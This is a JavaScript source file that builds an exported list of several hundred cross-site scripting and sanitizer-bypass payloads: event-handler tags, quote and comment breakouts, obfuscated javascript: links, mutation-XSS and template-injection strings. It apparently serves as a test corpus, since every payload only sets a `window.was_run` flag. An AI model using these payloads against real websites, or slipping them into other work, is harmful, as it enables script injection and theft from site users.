// More than two hundred ways in which text tries to become script, markup, a link that does something, or a way around a filter.

const RUN = 'window.was_run=1';
const ELEMENTS = ['img src=x onerror', 'svg onload', 'body onload', 'input autofocus onfocus', 'details open ontoggle', 'video src=x onerror', 'audio src=x onerror', 'iframe onload', 'select autofocus onfocus',
  'textarea autofocus onfocus', 'marquee onstart', 'object data=x onerror', 'embed src=x onerror', 'link rel=stylesheet href=x onerror', 'style onload', 'script src=x onerror', 'keygen autofocus onfocus', 'isindex autofocus onfocus',
  'math onmouseover', 'button autofocus onfocus', 'form onformdata', 'meter onmouseover', 'picture onload', 'source onerror', 'track onerror'];
/** Where in a page a text may stand: in an element, behind a quote, in a comment, in another element's text. */
const BREAKS = ['', '">', "'>", '--><!-- -->', '</textarea>', '</title></style></script>'];
const of_elements = ELEMENTS.flatMap((element, i) => BREAKS.map((out) => (i % 2 ? `${out}<${element}="${RUN}">` : `${out}<${element}=${RUN}//`)));

const SCHEMES = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', ' javascript:', '\u0001javascript:', 'vbscript:', 'data:text/html,', 'javascript&colon;', 'java&#115;cript:', 'javascript://%0a', 'blob:', 'file:///'];
const of_links = SCHEMES.flatMap((scheme) => [`[a](${scheme}${RUN})`, `<a href="${scheme}${RUN}">a</a>`, `![a](${scheme}${RUN} "onerror=${RUN}")`]);

const OTHERS = [`<script>${RUN}</script>`, `<ScRiPt >${RUN}</sCrIpT>`, `<<script>${RUN}//<</script>`, `<script/x>${RUN}</script>`, `<svg><script>${RUN}</script></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<template><img src=x onerror=${RUN}></template>`, `\${${RUN}}`, `{{constructor.constructor('${RUN}')()}}`, `&lt;img src=x onerror=${RUN}&gt;`, `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `<base href="https://elsewhere.example/">`, `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`, `<form action="javascript:${RUN}"><button>x</button></form>`];

export const VECTORS = [...of_elements, ...of_links, ...OTHERS];
